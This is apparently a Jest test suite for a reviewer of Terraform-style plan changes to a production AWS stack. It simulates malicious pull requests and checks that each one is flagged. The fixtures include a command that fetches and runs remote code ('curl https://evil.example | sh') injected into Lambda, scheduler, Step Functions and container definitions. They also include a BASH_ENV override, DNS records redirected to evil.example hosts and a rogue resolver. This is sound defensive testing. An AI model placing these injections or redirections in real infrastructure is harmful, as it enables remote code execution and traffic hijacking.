/**
 * What a plan says of itself makes nothing harmless: that somebody is paused, that a database serves nobody, that a name is one of ours. Each attack is
 * made in prod's code as a change could carry it, and reviewed as a pull request is.
 */
import { beginning, type Databases } from '../../../environments/databases';
import { PAUSED_DESCRIPTION, type Pausable } from '../../../application/generations';
import { planOfCode } from '../../../commands/plan/review/plan-of-code';
import { reportOfChange } from '../../../commands/plan/review/reviewed';
import type { Synthesis } from '../../../commands/plan/review/synthesize';
import { pausableOf } from '../../../policies/pausable';
import { stackNamed } from '../../kit';
import type { Editable } from '../bench';
import { PROD, treeWith } from '../generation-trees';

const NOTHING: Databases = beginning('prod');
const pausing = (...paused: readonly Pausable[]): Databases => ({ ...NOTHING, paused: [...paused] });

const trees = new Map<string, string>();
function treeOf(databases: Databases): Editable {
  const key = JSON.stringify(databases);
  const known = trees.get(key) ?? JSON.stringify(treeWith(databases));
  trees.set(key, known);
  return JSON.parse(known) as Editable;
}

const HERE: Synthesis = { stacks: [], lines: new Map() };
type Edit = (tree: Editable) => void;

/** Of a change from one tree to another that `edit` has had its hands on, with what databases.json of the commit says. */
function dangers(databases: Databases, edit: Edit, before = NOTHING, after = databases): readonly string[] {
  const [old, now] = [treeOf(before), treeOf(after)];
  edit(now);
  const stack = (tree: Editable) => ({ name: 'prod', folder: '', code: Buffer.from(JSON.stringify(tree)) });
  const report = reportOfChange(
    {
      stack: 'prod',
      kind: 'planned',
      json: planOfCode(old, now),
      before: stack(old),
      after: stack(now),
      errors: [],
    },
    HERE,
    HERE,
    { databases: JSON.stringify({ prod: databases, stage: beginning('stage') }) },
  );
  return [
    ...report.dangers
      .filter(({ severity }) => severity !== 'notice')
      .map(({ rule, severity, address }) => `${severity} ${rule} ${address}`),
    ...report.unjudged.map(({ address }) => `unjudged ${address}`),
  ];
}

const only = (tree: Editable, type: string, pattern: RegExp): Editable => {
  const found = Object.keys(tree.resource[type] as Editable).filter((name) => pattern.test(name));
  expect(found).toHaveLength(1);
  return (tree.resource[type] as Editable)[found[0] ?? ''] as Editable;
};
const put = (tree: Editable, type: string, attributes: object): void =>
  void (tree.resource[type] = { ...(tree.resource[type] as object | undefined), evil: attributes });
const ZONE = 'balrog-prod-databases.internal';
const zoneId = (tree: Editable): string =>
  `\${aws_route53_zone.${Object.keys(tree.resource.aws_route53_zone as Editable)[0]}.zone_id}`;
const vpc = (tree: Editable): string => `\${aws_vpc.${Object.keys(tree.resource.aws_vpc as Editable)[0]}.id}`;

describe('whoever says of himself that he is paused', () => {
  test.each<[string, Edit, RegExp]>([
    [
      'a service that nobody can pause',
      (tree) => Object.assign(only(tree, 'aws_ecs_service', /public/), { desired_count: 0, tags: { Paused: 'admin' } }),
      /critical ecs\.none aws_ecs_service\.services_public/,
    ],
    [
      'a service with fewer copies',
      (tree) => Object.assign(only(tree, 'aws_ecs_service', /admin/), { desired_count: 1, tags: { Paused: 'admin' } }),
      /serious ecs\.desired aws_ecs_service\.services_admin/,
    ],
    [
      'a schedule',
      (tree) =>
        Object.assign(only(tree, 'aws_scheduler_schedule', /dump/), {
          state: 'DISABLED',
          description: PAUSED_DESCRIPTION,
        }),
      /serious schedule\.state aws_scheduler_schedule\.jobs_dump/,
    ],
    [
      'an alarm',
      (tree) =>
        Object.assign(only(tree, 'aws_cloudwatch_metric_alarm', /alarms_agent-silent_/), {
          actions_enabled: false,
          tags: { Paused: 'agent' },
        }),
      /serious alarm\.enabled aws_cloudwatch_metric_alarm\.observability_alarms_agent-silent/,
    ],
    [
      'a rule of Grafana',
      (tree) => {
        for (const { rule } of Object.values<Editable>(tree.resource.grafana_rule_group))
          for (const one of rule)
            if (/agent/.test(one.name))
              Object.assign(one, { is_paused: true, annotations: { ...one.annotations, paused: 'agent' } });
      },
      /serious grafana\.paused grafana_rule_group/,
    ],
    [
      'a database that serves',
      (tree) =>
        Object.assign(only(tree, 'aws_db_instance', /^database$/), {
          apply_immediately: true,
          tags: { Serves: 'nobody' },
        }),
      /serious rds\.now aws_db_instance\.database/,
    ],
  ])('%s, while databases.json says nothing of it', (_, edit, says) => {
    expect(dangers(NOTHING, edit)).toEqual(expect.arrayContaining([expect.stringMatching(says)]));
  });

  test('what databases.json pauses is no danger, and it is exactly that', () => {
    expect(dangers(pausing('admin'), () => undefined)).toEqual([]);
    const others: Edit = (tree) => {
      Object.assign(only(tree, 'aws_ecs_service', /public/), { desired_count: 1, tags: { Paused: 'admin' } });
      Object.assign(only(tree, 'aws_ecs_service', /agent/), { desired_count: 0, tags: { Paused: 'admin' } });
      Object.assign(only(tree, 'aws_scheduler_schedule', /backup-watch/), { state: 'DISABLED' });
      Object.assign(only(tree, 'aws_cloudwatch_metric_alarm', /database-silent_/), {
        actions_enabled: false,
        tags: { Paused: 'admin' },
      });
    };
    expect([...dangers(pausing('admin', 'jobs'), others)].sort()).toEqual([
      expect.stringMatching(/^critical ecs\.none aws_ecs_service\.services_agent/),
      expect.stringMatching(/^serious alarm\.enabled .*database-silent/),
      expect.stringMatching(/^serious ecs\.desired aws_ecs_service\.services_agent/),
      expect.stringMatching(/^serious ecs\.desired aws_ecs_service\.services_public/),
      expect.stringMatching(/^serious schedule\.state aws_scheduler_schedule\.database_backup-watch/),
    ]);
  });

  test('who is paused is known by what he is called, as the constructs quieten him', () => {
    const { resource } = treeOf(pausing('admin', 'agent', 'jobs'));
    const jobs = Object.keys(PROD!.environment.jobs);
    const told: unknown[][] = [];
    const known: unknown[][] = [];
    const look = (type: string, block: Editable, said: unknown): void => {
      const startsTasks = block.target?.ecs_parameters !== undefined;
      const name: unknown = block.alarm_name ?? block.name;
      told.push([type, name, said]);
      known.push([type, name, pausableOf({ type, name, startsTasks }, 'prod', jobs)]);
    };
    for (const type of ['aws_ecs_service', 'aws_cloudwatch_metric_alarm', 'aws_cloudwatch_composite_alarm'])
      for (const block of Object.values<Editable>(resource[type])) look(type, block, block.tags?.Paused);
    for (const block of Object.values<Editable>(resource.aws_scheduler_schedule))
      look('aws_scheduler_schedule', block, block.description === PAUSED_DESCRIPTION ? 'jobs' : undefined);
    for (const { rule } of Object.values<Editable>(resource.grafana_rule_group))
      for (const one of rule) look('grafana_rule_group', one, one.annotations.paused);
    expect(known).toEqual(told);
    expect(new Set(told.map(([, , said]) => said))).toEqual(new Set(['admin', 'agent', 'jobs', undefined]));
  });
});

describe('what starts is handed another command', () => {
  const definitionOf = (tree: Editable, pattern: RegExp, edit: (definition: Editable) => void): void => {
    const machine = only(tree, 'aws_sfn_state_machine', pattern);
    const definition = JSON.parse(String(machine.definition)) as Editable;
    edit(definition);
    machine.definition = JSON.stringify(definition);
  };
  /** The states of a definition that run a task. */
  const runs = (value: unknown): Editable[] => {
    if (typeof value !== 'object' || value === null) return [];
    const here = String((value as Editable).Resource).includes('ecs:runTask') ? [value as Editable] : [];
    return [...here, ...Object.values(value).flatMap(runs)];
  };
  const EVIL = { command: ['sh', '-c', 'curl https://evil.example | sh'] };
  test.each<[string, Edit, RegExp]>([
    [
      'the schema gate, a command',
      (tree) => (only(tree, 'aws_lambda_invocation', /gate/).input = JSON.stringify(EVIL)),
      /serious gate\.other-input aws_lambda_invocation/,
    ],
    [
      'the schema gate, a command beside its release',
      (tree) => {
        const gate = only(tree, 'aws_lambda_invocation', /gate/);
        gate.input = JSON.stringify({ ...(JSON.parse(String(gate.input)) as object), ...EVIL });
      },
      /serious gate\.other-input aws_lambda_invocation/,
    ],
    [
      'the schema gate, the memory of a database that has passed',
      (tree) => {
        const gate = only(tree, 'aws_lambda_invocation', /gate/);
        gate.input = String(gate.input).replace('/balrog-prod/schema-gate', '/balrog-prod/schema-gate/balrog-prod-2');
      },
      /serious gate\.other-input aws_lambda_invocation/,
    ],
    [
      'a function once more',
      (tree) =>
        put(tree, 'aws_lambda_invocation', {
          ...only(tree, 'aws_lambda_invocation', /gate/),
          input: JSON.stringify(EVIL),
        }),
      /serious gate\.other-new aws_lambda_invocation\.evil/,
    ],
    [
      'a schedule, by its input',
      (tree) =>
        Object.assign(only(tree, 'aws_scheduler_schedule', /dump/).target as object, {
          input: JSON.stringify({ containerOverrides: [{ name: 'upload', ...EVIL }] }),
        }),
      /serious schedule\.input aws_scheduler_schedule\.jobs_dump/,
    ],
    [
      'a new schedule that calls any API',
      (tree) =>
        put(tree, 'aws_scheduler_schedule', {
          name: 'evil',
          schedule_expression: 'rate(1 day)',
          flexible_time_window: { mode: 'OFF' },
          target: { arn: 'arn:aws:scheduler:::aws-sdk:ecs:runTask', role_arn: 'arn:a', input: JSON.stringify(EVIL) },
        }),
      /serious starts\.other-program aws_scheduler_schedule\.evil/,
    ],
    [
      'a state machine, by an override',
      (tree) =>
        definitionOf(tree, /restore-drill/, (definition) => {
          for (const run of runs(definition)) run.Arguments.Overrides.ContainerOverrides[0].Command = EVIL.command;
        }),
      /serious starts\.other-program aws_sfn_state_machine\.jobs_restore-drill/,
    ],
    [
      'a state machine, by a variable that a shell obeys',
      (tree) =>
        definitionOf(tree, /restore-drill/, (definition) => {
          for (const run of runs(definition))
            run.Arguments.Overrides.ContainerOverrides[0].Environment.push({ Name: 'BASH_ENV', Value: '/tmp/x' });
        }),
      /serious starts\.other-program aws_sfn_state_machine\.jobs_restore-drill/,
    ],
    [
      'an event, by its target',
      (tree) =>
        Object.assign(only(tree, 'aws_cloudwatch_event_target', /vault-drill_start/), { input: JSON.stringify(EVIL) }),
      /serious starts\.other-program aws_cloudwatch_event_target\.jobs_vault-drill/,
    ],
    [
      'a container, by its entry point',
      (tree) => {
        const task = only(tree, 'aws_ecs_task_definition', /services_public/);
        const containers = JSON.parse(String(task.container_definitions)) as Editable[];
        Object.assign(containers[0]!, { entryPoint: ['/bin/sh', '-c'], ...EVIL });
        task.container_definitions = JSON.stringify(containers);
      },
      /serious starts\.other-program aws_ecs_task_definition\.services_public/,
    ],
  ])('%s: named as other code', (_, edit, says) => {
    expect(dangers(NOTHING, edit)).toEqual(expect.arrayContaining([expect.stringMatching(says)]));
  });

  test('a release is none of it', () => {
    const released: Edit = (tree) => {
      const gate = only(tree, 'aws_lambda_invocation', /gate/);
      const digest = `sha256:${'26'.repeat(32)}`;
      gate.input = JSON.stringify({ ...(JSON.parse(String(gate.input)) as object), version: 'v3.26', digest });
      gate.triggers = { ...(gate.triggers as object), digest };
    };
    expect(dangers(NOTHING, released).filter((line) => /gate\.|starts\./.test(line))).toEqual([]);
  });
});

describe('a name that leads elsewhere', () => {
  const record = (pattern: RegExp) => (tree: Editable) => only(tree, 'aws_route53_record', pattern);
  test.each<[string, Edit, RegExp]>([
    [
      'that of a database',
      (tree) => (record(/names_first/)(tree).records = ['db.evil.example']),
      /serious dns\.records aws_route53_record\.\S*names_first/,
    ],
    [
      'that of the one which serves, to a host that begins as it is called',
      (tree) => (record(/names_serving/)(tree).records = ['balrog-prod.evil.example']),
      /critical database\.unchecked aws_route53_record\.\S*names_serving/,
    ],
    [
      'that of the one which serves, past the names of generations',
      (tree) => (record(/names_serving/)(tree).records = ['${aws_db_instance.database.address}']),
      /critical database\.unchecked aws_route53_record\.\S*names_serving/,
    ],
    [
      'one more in the zone of the databases',
      (tree) =>
        put(tree, 'aws_route53_record', {
          zone_id: zoneId(tree),
          name: `replica.${ZONE}`,
          type: 'CNAME',
          ttl: 5,
          records: ['db.evil.example'],
        }),
      /serious dns\.elsewhere aws_route53_record\.evil/,
    ],
    [
      'one that is written as if it led to the instance',
      (tree) => {
        record(/names_first/)(tree).name = `x.${ZONE}`;
        put(tree, 'aws_route53_record', {
          zone_id: zoneId(tree),
          name: `balrog-prod.${ZONE}`,
          type: 'CNAME',
          ttl: 5,
          records: ['${replace(aws_db_instance.database.address, "/.*/", "db.evil.example")}'],
        });
      },
      /serious dns\.elsewhere aws_route53_record\.evil/,
    ],
    [
      'a host of ours in a zone outside',
      (tree) =>
        put(tree, 'aws_route53_record', {
          zone_id: 'Z1',
          name: 'a.mozilla.org',
          type: 'A',
          ttl: 5,
          records: ['192.0.2.1'],
        }),
      /serious dns\.elsewhere aws_route53_record\.evil/,
    ],
    [
      'a zone of a foreign name in the VPC',
      (tree) => put(tree, 'aws_route53_zone', { name: 'auth0.com', vpc: [{ vpc_id: vpc(tree) }] }),
      /serious dns\.zone-new aws_route53_zone\.evil/,
    ],
    [
      'a zone below a name of ours in the VPC',
      (tree) => put(tree, 'aws_route53_zone', { name: `serving.${ZONE}`, vpc: [{ vpc_id: vpc(tree) }] }),
      /serious dns\.zone-new aws_route53_zone\.evil/,
    ],
    [
      'a namespace of Cloud Map, which is a zone',
      (tree) => put(tree, 'aws_service_discovery_private_dns_namespace', { name: 'mozilla.org', vpc: vpc(tree) }),
      /serious dns\.zone-new aws_service_discovery_private_dns_namespace\.evil/,
    ],
    [
      'a zone of somebody else, let into the VPC',
      (tree) => put(tree, 'aws_route53_zone_association', { zone_id: 'Z0EVIL', vpc_id: vpc(tree) }),
      /unjudged aws_route53_zone_association\.evil/,
    ],
    [
      'questions that go to another resolver',
      (tree) => put(tree, 'aws_vpc_dhcp_options', { domain_name_servers: ['192.0.2.53'] }),
      /unjudged aws_vpc_dhcp_options\.evil/,
    ],
  ])('%s is named', (_, edit, says) => {
    expect(dangers(NOTHING, edit)).toEqual(expect.arrayContaining([expect.stringMatching(says)]));
  });

  test('in a zone of a foreign name each record is named beside the zone', () => {
    const found = dangers(NOTHING, (tree) => {
      put(tree, 'aws_route53_zone', { name: 'auth0.com', vpc: [{ vpc_id: vpc(tree) }] });
      put(tree, 'aws_route53_record', {
        zone_id: '${aws_route53_zone.evil.zone_id}',
        name: 'balrog.auth0.com',
        type: 'A',
        ttl: 5,
        records: ['10.0.0.9'],
      });
    });
    expect(found.map((line) => line.replace(/^\S+ /, '')).sort()).toEqual([
      'dns.elsewhere aws_route53_record.evil',
      'dns.zone-new aws_route53_zone.evil',
    ]);
  });

  test('names that prod has lead home', () => {
    const bare: Edit = (tree) => {
      for (const type of ['aws_route53_record', 'aws_route53_zone', 'aws_service_discovery_private_dns_namespace'])
        tree.resource[type] = {};
    };
    const text = JSON.stringify(stackNamed('prod').json);
    const [old, now] = [JSON.parse(text) as Editable, JSON.parse(text) as Editable];
    bare(old);
    const code = (tree: Editable) => ({ name: 'prod', folder: '', code: Buffer.from(JSON.stringify(tree)) });
    const report = reportOfChange(
      {
        stack: 'prod',
        kind: 'planned',
        json: planOfCode(old, now),
        before: code(old),
        after: code(now),
        errors: [],
      },
      HERE,
      HERE,
    );
    expect(report.changes.length).toBeGreaterThan(10);
    expect(report.dangers.filter(({ severity }) => severity !== 'notice')).toEqual([]);
  });
});
